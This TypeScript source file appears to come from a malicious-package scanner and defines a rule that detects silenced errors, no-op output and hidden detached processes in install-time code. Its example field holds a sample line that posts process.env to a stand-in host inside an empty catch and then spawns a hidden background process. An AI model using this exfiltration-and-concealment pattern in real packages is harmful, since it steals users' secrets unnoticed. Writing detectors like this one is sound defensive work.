import type { JsRule } from '../engine.js';
import type { Node } from '../parse.js';
import { FILE_READS, js, NETWORK_CALLS, PROCESS_EXEC } from './helpers.js';

const FUNCTION_TYPES = new Set(['FunctionExpression', 'ArrowFunctionExpression']);
const SWALLOWED_EVENTS = new Set(['uncaughtException', 'unhandledRejection']);
const SILENCED_OUTPUT = new Set([
  'console.log',
  'console.error',
  'console.warn',
  'process.stdout.write',
  'process.stderr.write',
]);

/** A function that does nothing: `() => {}`, `function () {}`, `() => undefined`, `() => null`. */
function isEmptyFunction(node: Node | undefined): boolean {
  if (!node || !FUNCTION_TYPES.has(node.type)) return false;
  const body = node.body;
  if (body?.type === 'BlockStatement') return (body.body ?? []).length === 0;
  if (body?.type === 'Identifier') return body.name === 'undefined';
  return (body?.type === 'Literal' && body.value === null) || body?.type === 'NullLiteral';
}

/** What risky thing a call does, for the try block around it; undefined for ordinary calls. */
function riskOf(name: string | undefined): 'network' | 'process' | 'file' | undefined {
  if (!name) return undefined;
  if (NETWORK_CALLS.has(name)) return 'network';
  if (PROCESS_EXEC.has(name)) return 'process';
  if (FILE_READS.has(name)) return 'file';
  return undefined;
}

/**
 * Silent failure as evasion: errors of network/process/credential code swallowed whole
 * (`try { … } catch {}`, `.catch(() => {})`), process-wide error handlers that do nothing,
 * console output replaced by no-ops, and detached background processes with their output thrown
 * away and the parent not waiting. Most libraries have empty catches: these findings weigh
 * nothing alone (info) and only count in the `silent-harm` chain, next to harmful findings in
 * the same install-time file — except the hidden background process, which is a weak signal.
 */
export const silentFailure: JsRule = {
  meta: {
    ...js,
    id: 'JS-022',
    name: 'silent-failure',
    category: 'evasion',
    severity: 'info',
    confidence: 'medium',
    description:
      'Code hides its failures and output: empty catch blocks or `.catch(() => {})` around network, process or credential-file code, `process.on("uncaughtException", () => {})`, console/stdout replaced by no-ops, or a detached child process with `stdio: "ignore"` that the parent `unref()`s.',
    rationale:
      'Install-time stealers and droppers must never make `npm install` fail or print a stack trace, and often leave a payload running after the installer exits; silencing errors and output is how they stay unnoticed. Because ordinary libraries swallow errors too, this is evidence only in combination: it raises a verdict (chain `silent-harm`) when the same install-time file also exfiltrates, drops or harvests credentials.',
    falsePositives:
      'Optional features probed with try/catch (`try { execSync("git …") } catch {}`), update notifiers that check for new versions in a detached background process, CLIs with a quiet mode.',
    example:
      "try { https.request({ host: 'x.invalid' }).end(JSON.stringify(process.env)) } catch (e) {}\nprocess.on('uncaughtException', () => {})\nspawn('node', ['p.js'], { detached: true, stdio: 'ignore' }).unref()",
    references: ['https://attack.mitre.org/techniques/T1562/', 'https://attack.mitre.org/techniques/T1564/'],
  },
  create(ctx) {
    const seen = new Set<string>();
    /** Open try blocks: the risks of calls made inside each so far. */
    const tries: Array<Set<string>> = [];
    const report = (node: Node, kind: string, message: string, severity?: 'low') => {
      if (seen.has(kind)) return;
      seen.add(kind);
      ctx.facts.capabilities.add(`silent:${kind}`);
      ctx.report({ node, message, severity, evidence: { silent: kind } });
    };
    const onCall = (node: Node) => {
      const callee = node.callee;
      const name = ctx.qualify(callee);
      if (tries.length > 0) {
        let risk = riskOf(name);
        // reading a file only counts when it is a credential store
        if (risk === 'file' && !ctx.taint.taintOf(node).some((s) => s.kind === 'secret')) risk = undefined;
        if (risk) for (const t of tries) t.add(risk);
      }
      if (callee?.type !== 'MemberExpression') return;
      const method = callee.computed ? undefined : callee.property?.name;
      const args: Node[] = node.arguments ?? [];
      // process.on('uncaughtException', () => {})
      if ((method === 'on' || method === 'once' || method === 'addListener') && args.length === 2) {
        if (ctx.qualify(callee.object) !== 'process') return;
        const event = ctx.evaluateString(args[0]);
        if (event && SWALLOWED_EVENTS.has(event) && isEmptyFunction(args[1]))
          report(
            node,
            'process-errors',
            `Ignores every ${event} of the process (empty handler): crashes stay silent.`,
          );
        return;
      }
      // promise.catch(() => {}) on a request / process promise
      if (method === 'catch' && args.length === 1 && isEmptyFunction(args[0])) {
        const risk = chainRisk(ctx, callee.object);
        if (risk)
          report(
            node,
            `catch-${risk}`,
            `Discards every error of ${risk === 'network' ? 'a network request' : 'a process'} (\`.catch(() => {})\`).`,
          );
        return;
      }
      // spawn(...).unref() of a detached child whose output is ignored
      if (method === 'unref' && args.length === 0) {
        const spawn = spawnCall(ctx, callee.object);
        if (spawn && hiddenDetached(ctx, spawn))
          report(
            node,
            'background-process',
            'Starts a detached process with its output discarded and does not wait for it: it keeps running, unseen, after the caller (e.g. npm install) exits.',
            'low',
          );
      }
    };
    return {
      TryStatement() {
        tries.push(new Set());
      },
      'TryStatement:exit'() {
        tries.pop();
      },
      CatchClause(node: Node) {
        const risks = tries[tries.length - 1];
        if (!risks || risks.size === 0 || (node.body?.body ?? []).length > 0) return;
        const what = [...risks]
          .map((r) =>
            r === 'network'
              ? 'network requests'
              : r === 'process'
                ? 'started processes'
                : 'credential-file reads',
          )
          .join(', ');
        report(node, `empty-catch`, `Swallows every error of ${what} with an empty catch block.`);
      },
      CallExpression: onCall,
      AssignmentExpression(node: Node) {
        if (node.operator !== '=' || node.left?.type !== 'MemberExpression' || !isEmptyFunction(node.right))
          return;
        const target = ctx.qualify(node.left);
        if (target && SILENCED_OUTPUT.has(target))
          report(node, 'output', `Replaces ${target} with a no-op: the package's output is hidden.`);
      },
    };
  },
};

/** The risk of the call a promise chain starts from: `fetch(u).then(..)`, `axios.post(..)`, `exec(..)`. */
function chainRisk(
  ctx: Parameters<JsRule['create']>[0],
  node: Node | undefined,
  depth = 0,
): string | undefined {
  if (!node || depth > 6) return undefined;
  if (node.type === 'CallExpression') {
    const risk = riskOf(ctx.qualify(node.callee));
    if (risk === 'network' || risk === 'process') return risk;
    if (node.callee?.type === 'MemberExpression') return chainRisk(ctx, node.callee.object, depth + 1);
  }
  return undefined;
}

/** The spawn/exec call a handle comes from: the call itself or a variable bound to it. */
function spawnCall(ctx: Parameters<JsRule['create']>[0], node: Node | undefined): Node | undefined {
  if (node?.type === 'Identifier') {
    const b = ctx.lookup(node.name);
    node = b?.reassigned === 0 ? b.init : undefined;
  }
  if (node?.type !== 'CallExpression') return undefined;
  const name = ctx.qualify(node.callee);
  return name && PROCESS_EXEC.has(name) ? node : undefined;
}

/** `{ detached: true, stdio: 'ignore' }` (or an all-'ignore' stdio array) in the spawn options. */
function hiddenDetached(ctx: Parameters<JsRule['create']>[0], call: Node): boolean {
  const opts = (call.arguments ?? []).find((a: Node) => a.type === 'ObjectExpression');
  if (!opts) return false;
  let detached = false;
  let ignored = false;
  for (const p of opts.properties ?? []) {
    const key = p.key?.name ?? p.key?.value;
    if (key === 'detached') detached = ctx.evaluate(p.value) === true;
    if (key === 'stdio') {
      const v = ctx.evaluate(p.value);
      ignored = v === 'ignore' || (Array.isArray(v) && v.length > 0 && v.every((x) => x === 'ignore'));
    }
  }
  return detached && ignored;
}
